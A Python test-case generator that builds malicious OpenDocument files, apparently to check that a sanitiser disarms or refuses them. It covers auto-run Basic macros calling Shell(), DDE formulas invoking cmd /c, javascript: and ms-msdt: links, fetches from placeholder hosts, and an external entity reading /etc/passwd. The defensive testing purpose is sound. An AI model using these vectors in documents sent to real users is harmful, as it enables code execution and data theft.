"""OpenDocument that runs, fetches, hides or lies (ODF 1.3)."""
import base64
import hashlib
import struct
import zlib

from archives import Entry, archive
from case import add, MAILS, ANY, DISARMED, OUTPUT, PAYLOAD, REFUSED

PREFIX = "urn:oasis:names:tc:opendocument:xmlns:"
SPACES = " ".join('xmlns:%s="%s"' % row for row in (
    ("office", PREFIX + "office:1.0"), ("style", PREFIX + "style:1.0"), ("text", PREFIX + "text:1.0"),
    ("table", PREFIX + "table:1.0"), ("draw", PREFIX + "drawing:1.0"), ("fo", PREFIX + "xsl-fo-compatible:1.0"),
    ("svg", PREFIX + "svg-compatible:1.0"), ("chart", PREFIX + "chart:1.0"), ("form", PREFIX + "form:1.0"),
    ("script", PREFIX + "script:1.0"), ("presentation", PREFIX + "presentation:1.0"), ("anim", PREFIX + "animation:1.0"),
    ("meta", PREFIX + "meta:1.0"), ("config", PREFIX + "config:1.0"), ("xlink", "http://www.w3.org/1999/xlink"),
    ("dc", "http://purl.org/dc/elements/1.1/"), ("xforms", "http://www.w3.org/2002/xforms"),
    ("field", "urn:openoffice:names:experimental:ooo-ms-interop:xmlns:field:1.0"),
    ("of", PREFIX + "of:1.2"), ("ooo", "http://openoffice.org/2004/office"), ("dom", "http://www.w3.org/2001/xml-events"),
    ("smil", PREFIX + "smil-compatible:1.0"), ("xhtml", "http://www.w3.org/1999/xhtml")))
KINDS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation", "odg": "graphics"}
BODIES = dict(KINDS, odg="drawing")


def content(kind, body, before="", head=""):
    return ('<?xml version="1.0" encoding="UTF-8"?>%s<office:document-content %s office:version="1.3">%s<office:body>'
            "<office:%s>%s</office:%s></office:body></office:document-content>"
            % (head, SPACES, before, BODIES[kind], body, BODIES[kind])).encode()


def part(root, inside):
    return ('<office:document-%s %s office:version="1.3">%s</office:document-%s>' % (root, SPACES, inside, root)).encode()


def package(kind, parts, mimetype=None):
    mimetype = "application/vnd.oasis.opendocument." + KINDS[kind] if mimetype is None else mimetype
    return archive([Entry("mimetype", mimetype.encode(), 0)] + [Entry(n, d) for n, d in parts])


def odf(name, attacks, body="<text:p>x</text:p>", parts=(), before="", head="", must=(PAYLOAD,), expect=DISARMED, kind=None, says=()):
    kind = kind or name.rsplit(".", 1)[1]
    add("odf/" + name, kind, attacks, package(kind, [("content.xml", content(kind, body, before, head))] + list(parts)),
        must, expect, says=says)


def paragraph(inside):
    return "<text:p>%s</text:p>" % inside


def cell(attributes):
    return ('<table:table table:name="s"><table:table-row><table:table-cell office:value-type="float" office:value="1" %s>'
            "<text:p>1</text:p></table:table-cell></table:table-row></table:table>" % attributes)


def shape(inside):
    return "<draw:page>%s</draw:page>" % inside


BASIC = ('<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script">Sub Main\nShell("%s")\nEnd Sub'
         "</script:module>" % PAYLOAD).encode()
EVENT = ('<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="%%s" xlink:href='
         '"vnd.sun.star.script:Standard.%s.Main?language=Basic&amp;location=document" xlink:type="simple"/>'
         "</office:event-listeners>" % PAYLOAD)


# -- programs -------------------------------------------------------------

odf("basic-module.odt", "a Basic module in its library", parts=[
    ("Basic/Standard/Module1.xml", BASIC), ("Basic/Standard/script-lb.xml", BASIC), ("Basic/script-lc.xml", BASIC)])
odf("python-script.odt", "a Python script in the package", parts=[("Scripts/python/a.py", PAYLOAD.encode())])
odf("dialog.ods", "a Basic dialog", cell(""), parts=[("Dialogs/Standard/Dialog1.xml", PAYLOAD.encode())])
odf("script-inline.odt", "a script in office:scripts",
    before='<office:scripts><office:script script:language="ooo:Basic">%s</office:script></office:scripts>' % PAYLOAD)
for event in ("dom:load", "office:new", "dom:unload"):
    odf("script-%s.odt" % event.split(":")[1], "a macro bound to %s of the document" % event,
        before="<office:scripts>%s</office:scripts>" % (EVENT % event))
odf("event-link.odt", "a macro on a link", paragraph('<text:a xlink:href="#x">%s y</text:a>' % (EVENT % "dom:click")))
odf("event-shape.odp", "a macro on a shape", shape("<draw:rect>%s</draw:rect>" % (EVENT % "dom:click")))
odf("event-picture.odt", "a macro when a picture has loaded", paragraph("<draw:frame>%s<draw:text-box/></draw:frame>" % (EVENT % "dom:load")))
odf("event-prefix.odt", "a macro on a link, under other prefixes", paragraph(
    '<text:a xlink:href="#x"><e:event-listeners xmlns:e="%soffice:1.0" xmlns:s="%sscript:1.0"><s:event-listener s:event-name='
    '"dom:click" xlink:href="vnd.sun.star.script:%s"/></e:event-listeners>y</text:a>' % (PREFIX, PREFIX, PAYLOAD)))
odf("validation-macro.ods", "a macro of a validation", (
    '<table:content-validations><table:content-validation table:name="v"><table:error-macro table:execute="true"/>%s'
    "</table:content-validation></table:content-validations>" % (EVENT % "dom:error")) + cell(""))
odf("field-macro.odt", "a field that runs a macro", paragraph(
    '<text:execute-macro text:name="%s">%s x</text:execute-macro>' % (PAYLOAD, EVENT % "dom:click")))
odf("field-script.odt", "a script in a field", paragraph('<text:script script:language="JavaScript">%s</text:script>' % PAYLOAD))
odf("field-script-linked.odt", "a script of elsewhere in a field",
    paragraph('<text:script script:language="JavaScript" xlink:href="http://%s.example/a.js"/>' % PAYLOAD))
odf("present-execute.odp", "a click starts a program", shape(
    '<draw:rect><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute"'
    ' xlink:href="file:///%s.exe"/></office:event-listeners></draw:rect>' % PAYLOAD))
odf("present-verb.odp", "a click opens an object", shape(
    '<draw:rect><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="verb"'
    ' xlink:href="%s"/></office:event-listeners></draw:rect>' % PAYLOAD))
odf("present-show-file.odp", "a click shows a file of elsewhere", shape(
    '<draw:rect><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="show"'
    ' xlink:href="\\\\%s\\a.odp"/></office:event-listeners></draw:rect>' % PAYLOAD))
odf("anim-command.odp", "an animation commands an object", shape(
    '<anim:par><anim:command anim:command="verb"><anim:param anim:name="%s"/></anim:command></anim:par>' % PAYLOAD))
odf("anim-audio.odp", "an animation plays a remote sound",
    shape('<anim:par><anim:audio xlink:href="http://%s.example/a.wav"/></anim:par>' % PAYLOAD))

# -- links ----------------------------------------------------------------

for n, address in enumerate((
        "javascript:" + PAYLOAD, "JaVaScRiPt:" + PAYLOAD, "java&#9;script:" + PAYLOAD, " &#10;javascript:" + PAYLOAD,
        "vnd.sun.star.script:" + PAYLOAD, "macro:///" + PAYLOAD, "macro:Standard." + PAYLOAD, "vnd.sun.star.expand:" + PAYLOAD,
        ".uno:" + PAYLOAD, "service:com.sun.star." + PAYLOAD, "slot:5500?" + PAYLOAD, "file:///" + PAYLOAD,
        "\\\\" + PAYLOAD + "\\a", "//" + PAYLOAD + "/a.exe", "../" + PAYLOAD + ".exe", "data:text/html," + PAYLOAD,
        "ms-msdt:" + PAYLOAD, "search-ms:" + PAYLOAD, "smb://" + PAYLOAD, "vnd.sun.star.webdav://" + PAYLOAD)):
    odf("link-%02d.odt" % n, "a link to " + address.split(PAYLOAD)[0], paragraph('<text:a xlink:href="%s">y</text:a>' % address))
for key, address in MAILS.items():
    odf("link-%s.odt" % key, "a link made to be mistaken: " + key, paragraph('<text:a xlink:href="%s">y</text:a>' % address.replace("&", "&amp;")))
    odf("formula-link-%s.ods" % key, "a link by formula: " + key,
        cell("table:formula=\"of:=HYPERLINK(&quot;%s&quot;)\"" % address.replace("&", "&amp;")))
odf("link-shape.odg", "a shape leads to a program",
    shape('<draw:a xlink:href="file:///%s.exe"><draw:rect/></draw:a>' % PAYLOAD))
odf("link-area.odt", "an image map leads to a program", paragraph(
    '<draw:frame><draw:text-box/><draw:image-map><draw:area-rectangle xlink:href="vnd.sun.star.script:%s" svg:x="0cm"/>'
    "</draw:image-map></draw:frame>" % PAYLOAD))

# -- what is fetched ------------------------------------------------------

for n, address in enumerate(("http://%s.example/a.png", "file:///%s/a.png", "//%s/share/a.png", "\\\\%s\\share\\a.png",
                             "../../../%s.png", "/%s.png", "vnd.sun.star.pkg://file%%3A///%s/a.png", "ftp://%s/a.png")):
    odf("picture-%02d.odt" % n, "a picture of " + address.split("%s")[0],
        paragraph('<draw:frame svg:width="1cm"><draw:image xlink:href="%s" xlink:actuate="onLoad"/></draw:frame>' % (address % PAYLOAD)))
odf("fill-remote.odg", "an area filled with a remote picture", shape("<draw:rect/>"), parts=[("styles.xml", part(
    "styles", '<office:styles><draw:fill-image draw:name="f" xlink:href="http://%s.example/f.png"/></office:styles>' % PAYLOAD))])
odf("background-remote.odt", "a page whose background is remote", parts=[("styles.xml", part(
    "styles", '<office:automatic-styles><style:page-layout style:name="p"><style:page-layout-properties><style:background-image'
    ' xlink:href="http://%s.example/b.png"/></style:page-layout-properties></style:page-layout></office:automatic-styles>' % PAYLOAD))])
odf("bullet-remote.odt", "a bullet that is remote", parts=[("styles.xml", part(
    "styles", '<office:styles><text:list-style style:name="l"><text:list-level-style-image text:level="1" xlink:href='
    '"http://%s.example/b.png"/></text:list-style></office:styles>' % PAYLOAD))])
odf("font-remote.odt", "a font of elsewhere", before=(
    '<office:font-face-decls><style:font-face style:name="F"><svg:font-face-src><svg:font-face-uri xlink:href='
    '"http://%s.example/f.ttf"/></svg:font-face-src></style:font-face></office:font-face-decls>' % PAYLOAD))
odf("font-embedded.odt", "a font in the package", before=(
    '<office:font-face-decls><style:font-face style:name="F"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/f.ttf"/>'
    "</svg:font-face-src></style:font-face></office:font-face-decls>"), parts=[("Fonts/f.ttf", PAYLOAD.encode())])
odf("section-source.odt", "a section of another document",
    '<text:section text:name="s"><text:section-source xlink:href="http://%s.example/a.odt"/>%s</text:section>' % (PAYLOAD, paragraph("x")))
odf("section-dde.odt", "a section by DDE",
    '<text:section text:name="s"><office:dde-source office:dde-application="cmd" office:dde-topic="%s" office:dde-item="i"'
    ' office:automatic-update="true"/>%s</text:section>' % (PAYLOAD, paragraph("x")))
odf("master.odt", "a master document that gathers files",
    '<text:section text:name="s"><text:section-source xlink:href="file:///%s.odt"/></text:section>' % PAYLOAD)
odf("table-source.ods", "a sheet of another document", cell("").replace(
    "<table:table-row>", '<table:table-source xlink:href="file:///%s.ods" table:refresh-delay="PT1S"/><table:table-row>' % PAYLOAD))
odf("range-source.ods", "cells of a web page", cell("").replace(
    "<text:p>", '<table:cell-range-source table:name="HTML_all" xlink:href="http://%s.example/"/><text:p>' % PAYLOAD))
odf("index-marks.odt", "an index by a file of elsewhere",
    '<text:alphabetical-index-auto-mark-file xlink:href="file:///%s"/>' % PAYLOAD + paragraph("x"))
odf("meta-reload.odt", "a document that loads another by itself", parts=[("meta.xml", part(
    "meta", '<office:meta><meta:auto-reload meta:delay="PT1S" xlink:href="http://%s.example/"/></office:meta>' % PAYLOAD))])
odf("meta-template.odt", "a template of elsewhere", parts=[("meta.xml", part(
    "meta", '<office:meta><meta:template xlink:href="http://%s.example/t.ott"/></office:meta>' % PAYLOAD))])
odf("grddl.odt", "a transformation of elsewhere",
    before='<office:scripts xhtml:about="%s"/>' % PAYLOAD, expect=OUTPUT)

# -- DDE and databases ----------------------------------------------------

odf("dde-field.odt", "a DDE field", (
    '<text:dde-connection-decls><text:dde-connection-decl office:name="c" office:dde-application="cmd" office:dde-topic="%s"'
    ' office:dde-item="i" office:automatic-update="true"/></text:dde-connection-decls>' % PAYLOAD) +
    paragraph('<text:dde-connection text:connection-name="c">y</text:dde-connection>'))
odf("dde-links.ods", "DDE links of a sheet", cell("") + (
    '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="%s"'
    ' office:dde-item="i"/></table:dde-link></table:dde-links>' % PAYLOAD))
for n, formula in enumerate((
        'of:=DDE("cmd";"/c %s";"x")', 'of:=dde("cmd";"/c %s";"x")', 'of:=DDE ("cmd";"%s";"x")', 'oooc:=DDE("cmd";"%s";"x")',
        'of:=IF(1;DDE("cmd";"%s";"x");2)', 'msoxl:=cmd|\'/c %s\'!A0', 'of:=cmd|\'/c %s\'!A0', '=DDE("cmd";"%s";"x")',
        'of:=ORG.LIBREOFFICE.DDE("cmd";"%s";"x")')):
    odf("dde-formula-%d.ods" % n, "a DDE formula: " + formula.split("%s")[0], cell("table:formula=\"%s\"" % (formula % PAYLOAD).replace("&", "&amp;").replace('"', "&quot;")))
for n, formula in enumerate((
        'of:=WEBSERVICE("http://%s.example/")', 'of:=COM.MICROSOFT.WEBSERVICE("http://%s.example/"&[.A1])',
        'of:=HYPERLINK("file:///%s")', 'of:=HYPERLINK("http://%s.example/"&[.B1];"x")', 'of:=%s([.A1])',
        "of:=['file:///c:/%s.ods'#$Sheet1.A1]", "of:=[#%s.A1]", "of:='http://%s.example/a.ods'#$Sheet1.A1",
        "of:=INDIRECT(\"'file:///%s.ods'#$Sheet1.A1\")", 'of:=CALL("kernel32";"%s")', 'of:=REGISTER.ID("%s";"x")',
        'evil:=SUM([.A1];"%s")', 'of:=SUM("%s"')):
    odf("formula-%02d.ods" % n, "a formula that reaches out: " + formula.split("%s")[0],
        cell("table:formula=\"%s\"" % (formula % PAYLOAD).replace("&", "&amp;").replace('"', "&quot;")))
odf("named-external.ods", "a name over another document", cell("") + (
    '<table:named-expressions><table:named-expression table:name="n" table:expression="[\'file:///%s\'#$S.A1]"/>'
    '<table:named-range table:name="m" table:cell-range-address="\'file:///%s\'#$S.A1"/></table:named-expressions>' % (PAYLOAD, PAYLOAD)))
odf("database-range.ods", "a range filled by a database", cell("") + (
    '<table:database-ranges><table:database-range table:name="d" table:target-range-address="s.A1:s.A2"><table:database-source-sql'
    ' table:database-name="%s" table:sql-statement="select"/></table:database-range></table:database-ranges>' % PAYLOAD))
odf("database-field.odt", "a field of a database", paragraph(
    '<text:database-display text:database-name="%s" text:table-name="t" text:column-name="c"><form:connection-resource'
    ' xlink:href="jdbc:%s"/>y</text:database-display>' % (PAYLOAD, PAYLOAD)))
odf("pilot-service.ods", "a pivot table over a service", cell("") + (
    '<table:data-pilot-tables><table:data-pilot-table table:name="p" table:target-range-address="s.A1"><table:source-service'
    ' table:name="%s" table:source-name="s" table:object-name="o"/></table:data-pilot-table></table:data-pilot-tables>' % PAYLOAD))

# -- forms ----------------------------------------------------------------

odf("form-submit.odt", "a form that is sent elsewhere", (
    '<office:forms><form:form xlink:href="http://%s.example/" form:method="post" form:target-frame="_self"><form:button form:id="b"'
    ' form:button-type="submit" form:label="ok" form:control-implementation="ooo:%s"/></form:form></office:forms>' % (PAYLOAD, PAYLOAD)) +
    paragraph('<draw:control draw:control="b"/>'))
odf("form-database.odt", "a form over a database", (
    '<office:forms><form:form form:datasource="%s" form:command="select" form:command-type="command"><form:connection-resource'
    ' xlink:href="file:///%s.odb"/><form:text form:id="t" form:data-field="f"/></form:form></office:forms>' % (PAYLOAD, PAYLOAD)) +
    paragraph('<draw:control draw:control="t"/>'))
odf("form-properties.odt", "properties of a control", (
    '<office:forms><form:form><form:text form:id="t"><form:properties><form:property form:property-name="HelpURL"'
    ' office:value-type="string" office:string-value="%s"/></form:properties></form:text></form:form></office:forms>' % PAYLOAD) +
    paragraph('<draw:control draw:control="t"/>'))
odf("xforms.odt", "an XForms model", (
    '<office:forms><xforms:model><xforms:submission action="http://%s.example/" method="post"/></xforms:model></office:forms>' % PAYLOAD) +
    paragraph("x"))
odf("field-mark.odt", "what was a DDE field in Word", paragraph(
    '<field:fieldmark-start field:type="vnd.oasis.opendocument.field.UNHANDLED"><field:param field:name="vnd.oasis.opendocument.'
    'field.ole" field:value=" DDEAUTO cmd %s "/></field:fieldmark-start>y<field:fieldmark-end/>' % PAYLOAD))

# -- objects --------------------------------------------------------------

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + PAYLOAD.encode() + bytes(512)
odf("object-ole.odt", "an OLE object", paragraph('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'),
    parts=[("Object 1", OLE)])
odf("object-file.odt", "an object that is a file", paragraph('<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'),
    parts=[("Object 1", OLE)])
odf("object-macro.odt", "a document inside, with macros", paragraph('<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'),
    parts=[("Object 1/content.xml", content("ods", cell(""), "<office:scripts>%s</office:scripts>" % (EVENT % "dom:load"))),
           ("Object 1/Basic/Standard/Module1.xml", BASIC)])
odf("object-dde.odt", "a sheet inside, with DDE", paragraph('<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'),
    parts=[("Object 1/content.xml", content("ods", cell('table:formula="of:=DDE(&quot;cmd&quot;;&quot;%s&quot;;&quot;&quot;)"' % PAYLOAD)))])
odf("object-remote.odt", "an object of elsewhere",
    paragraph('<draw:frame><draw:object xlink:href="http://%s.example/a.ods"/></draw:frame>' % PAYLOAD))
odf("object-replacement.odt", "a replacement picture that is a program", paragraph(
    '<draw:frame><draw:object-ole xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame>'),
    parts=[("Object 1", OLE), ("ObjectReplacements/Object 1", b"MZ" + bytes(62) + PAYLOAD.encode())])
for name in ("plugin", "applet", "floating-frame"):
    odf("object-%s.odt" % name, "a %s" % name,
        paragraph('<draw:frame><draw:%s xlink:href="http://%s.example/" draw:code="%s"/></draw:frame>' % (name, PAYLOAD, PAYLOAD)))
odf("object-nested.odt", "documents in documents without end",
    paragraph('<draw:frame><draw:object xlink:href="O"/></draw:frame>'),
    parts=[("O/" * n + "content.xml", content("odt", paragraph('<draw:frame><draw:object xlink:href="O"/></draw:frame>'))) for n in range(1, 40)],
    expect=REFUSED)
odf("object-itself.odt", "an object that is the document itself",
    paragraph('<draw:frame><draw:object xlink:href="./"/></draw:frame><draw:frame><draw:object xlink:href="Object 1/.."/></draw:frame>'),
    must=("Object 1/..",))
odf("formula-object.odt", "a formula whose annotation hides a program", paragraph('<draw:frame><draw:object xlink:href="F"/></draw:frame>'),
    parts=[("F/content.xml", ('<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mi>x</mi><annotation encoding="x">%s'
            '</annotation><annotation-xml><script>%s</script></annotation-xml></semantics></math>' % (PAYLOAD, PAYLOAD)).encode())])
odf("formula-link.odt", "a formula that leads elsewhere", paragraph('<draw:frame><draw:object xlink:href="F"/></draw:frame>'),
    parts=[("F/content.xml", ('<math xmlns="http://www.w3.org/1998/Math/MathML" xmlns:xlink="http://www.w3.org/1999/xlink"><mi xlink:href='
            '"javascript:%s" href="javascript:%s">x</mi><maction actiontype="%s"><mi>y</mi></maction></math>'
            % (PAYLOAD, PAYLOAD, PAYLOAD)).encode())], expect=OUTPUT)
odf("picture-polyglot.odt", "a picture that is a script too", paragraph('<draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>'),
    parts=[("Pictures/a.png", b"#!/bin/sh\n" + PAYLOAD.encode())])
odf("picture-inline.odt", "a program as a picture in the markup", paragraph(
    "<draw:frame><draw:image><office:binary-data>%s</office:binary-data></draw:image></draw:frame>"
    % base64.b64encode(b"MZ" + bytes(62) + PAYLOAD.encode()).decode()), must=(PAYLOAD, base64.b64encode(PAYLOAD.encode()).decode()[:12]))

# -- the package ----------------------------------------------------------

odf("unused.odt", "files that the document does not use", parts=[("Pictures/a.exe", PAYLOAD.encode()), ("x/y/z.bin", PAYLOAD.encode())])
odf("ui.odt", "a user interface of its own", parts=[
    ("Configurations2/toolbar/a.xml", PAYLOAD.encode()), ("Configurations2/accelerator/current.xml", PAYLOAD.encode())])
odf("versions.odt", "an earlier version", parts=[("VersionList.xml", b"<x/>"), ("Versions/Version1", PAYLOAD.encode())])
odf("rdf.odt", "statements about the document", parts=[("manifest.rdf", PAYLOAD.encode()), ("meta/a.rdf", PAYLOAD.encode())])
odf("signed.odt", "a signature", parts=[("META-INF/documentsignatures.xml", PAYLOAD.encode()), ("META-INF/macrosignatures.xml", PAYLOAD.encode())])
odf("settings.odt", "settings that act", parts=[("settings.xml", part("settings", (
    '<office:settings><config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="PrinterSetup"'
    ' config:type="base64Binary">%s</config:config-item><config:config-item config:name="LinkUpdateMode" config:type="short">1'
    '</config:config-item><config:config-item config:name="PrinterName" config:type="string">%s</config:config-item>'
    '<config:config-item config:name="%s" config:type="string">x</config:config-item></config:config-item-set></office:settings>'
    % (PAYLOAD, PAYLOAD, PAYLOAD))))], must=(PAYLOAD, "LinkUpdateMode"))
odf("entities.odt", "entities that swell", paragraph("&a;"),
    head='<!DOCTYPE x [<!ENTITY a "%s"><!ENTITY b "&a;&a;&a;">]>' % PAYLOAD, expect=REFUSED)
odf("entity-external.odt", "an external entity", paragraph("&a;"),
    head='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', expect=REFUSED)
odf("doctype-remote.odt", "a DTD of elsewhere", head='<!DOCTYPE x SYSTEM "http://%s.example/x.dtd">' % PAYLOAD, expect=(DISARMED, REFUSED))
odf("deep.odt", "elements in elements without end", "<text:section>" * 5000 + "</text:section>" * 5000, expect=REFUSED)
odf("wide.odt", "an element with very many attributes",
    "<text:p %s/>" % " ".join('text:a%d="%s"' % (n, PAYLOAD) for n in range(20000)), expect=ANY)
odf("comment.odt", "comments and instructions in the markup", paragraph("x<!--%s--><?evil %s?>" % (PAYLOAD, PAYLOAD)), expect=OUTPUT)
odf("unknown.odt", "elements of a vocabulary of its own", paragraph('<e:x xmlns:e="urn:e">%s</e:x>' % PAYLOAD))
odf("hidden.odt", "hidden text is told", '<text:section text:name="s" text:display="none"><text:p>x</text:p></text:section>', must=(),
    expect=OUTPUT, says="ODF_HIDDEN_TEXT")
odf("hidden.ods", "hidden rows are told", cell("").replace("<table:table-row>", '<table:table-row table:visibility="collapse">'), must=(),
    expect=OUTPUT, says="ODF_HIDDEN_ROWS")
add("odf/lie-body.odt", "odt", "a spreadsheet that says it is text", package("odt", [("content.xml", content("ods", cell("")))]), (), REFUSED)
add("odf/lie-mimetype.odt", "odt", "a mimetype of nothing", package("odt", [("content.xml", content("odt", ""))],
    "application/vnd.oasis.opendocument.text-evil"), (), REFUSED)
add("odf/lie-base.odt", "odt", "a database that says it is text", package("odt", [("content.xml", content("odt", ""))],
    "application/vnd.oasis.opendocument.base"), (), ANY)
add("odf/no-content.odt", "odt", "a package without content", package("odt", [("styles.xml", part("styles", ""))]), (), REFUSED)
add("odf/two-contents.odt", "odt", "the content twice", package("odt", [
    ("content.xml", content("odt", paragraph("x"))), ("content.xml", content("odt", paragraph(PAYLOAD)))]), (PAYLOAD,), ANY)
add("odf/disagree.odt", "odt", "headers that contradict each other", archive([
    Entry("mimetype", b"application/vnd.oasis.opendocument.text", 0),
    Entry("content.xml", content("odt", paragraph(PAYLOAD)), local_name="content.xmx")]), (PAYLOAD,), REFUSED)
add("odf/flat.fodt", "odt", "flat XML with a macro", (
    '<?xml version="1.0"?><office:document %s office:mimetype="application/vnd.oasis.opendocument.text"><office:scripts><office:script>'
    "%s</office:script></office:scripts><office:body><office:text/></office:body></office:document>" % (SPACES, PAYLOAD)).encode(),
    (PAYLOAD,), ANY)


def encrypted(rounds, algorithm="Blowfish CFB"):
    entry = ('<manifest:manifest xmlns:manifest="%smanifest:1.0"><manifest:file-entry manifest:full-path="content.xml" manifest:size="100">'
             '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"><manifest:algorithm'
             ' manifest:algorithm-name="%s" manifest:initialisation-vector="AAAAAAAAAAA="/><manifest:key-derivation'
             ' manifest:key-derivation-name="PBKDF2" manifest:iteration-count="%d" manifest:salt="AAAA"/></manifest:encryption-data>'
             "</manifest:file-entry></manifest:manifest>" % (PREFIX, algorithm, rounds)).encode()
    return package("odt", [("content.xml", PAYLOAD.encode()), ("META-INF/manifest.xml", entry)])


add("odf/encrypted.odt", "odt", "encrypted, without a password", encrypted(1024), (), REFUSED)
add("odf/encrypted-rounds.odt", "odt", "encrypted with a thousand million rounds", encrypted(999999999), (), REFUSED)


def envelope(*numbers):
    """Encrypted as a whole, as LibreOffice does it since 24.8; passes, KiB and lanes of Argon2id."""
    entry = ('<manifest:manifest xmlns:manifest="%smanifest:1.0" xmlns:loext="urn:org:documentfoundation:names:experimental:office:xmlns:'
             'loext:1.0"><manifest:file-entry manifest:full-path="encrypted-package" manifest:size="100"><manifest:encryption-data>'
             '<manifest:algorithm manifest:algorithm-name="http://www.w3.org/2009/xmlenc11#aes256-gcm"'
             ' manifest:initialisation-vector="AAAAAAAAAAAAAAAA"/><manifest:start-key-generation manifest:start-key-generation-name='
             '"http://www.w3.org/2001/04/xmlenc#sha256" manifest:key-size="32"/><manifest:key-derivation manifest:key-derivation-name='
             '"urn:org:documentfoundation:names:experimental:office:manifest:argon2id" loext:argon2-iterations="%d"'
             ' loext:argon2-memory="%d" loext:argon2-lanes="%d" manifest:salt="AAAAAAAAAAAAAAAAAAAAAA==" manifest:key-size="32"/>'
             "</manifest:encryption-data></manifest:file-entry></manifest:manifest>" % ((PREFIX,) + numbers)).encode()
    return package("odt", [("encrypted-package", bytes(12) + PAYLOAD.encode() + bytes(16)), ("META-INF/manifest.xml", entry)])


add("odf/envelope.odt", "odt", "encrypted as a whole, without a password", envelope(3, 65536, 4), (), REFUSED)
add("odf/envelope-memory.odt", "odt", "a key that wants all memory", envelope(1, 999999999, 1), (), REFUSED)
add("odf/envelope-passes.odt", "odt", "a key that is never done", envelope(999999999, 65536, 4), (), REFUSED)
add("odf/envelope-lanes.odt", "odt", "a key that wants a thousand million threads", envelope(1, 8, 999999999), (), REFUSED)
add("odf/encrypted-method.odt", "odt", "encrypted in a way that nobody knows", encrypted(1024, PAYLOAD), (), REFUSED)
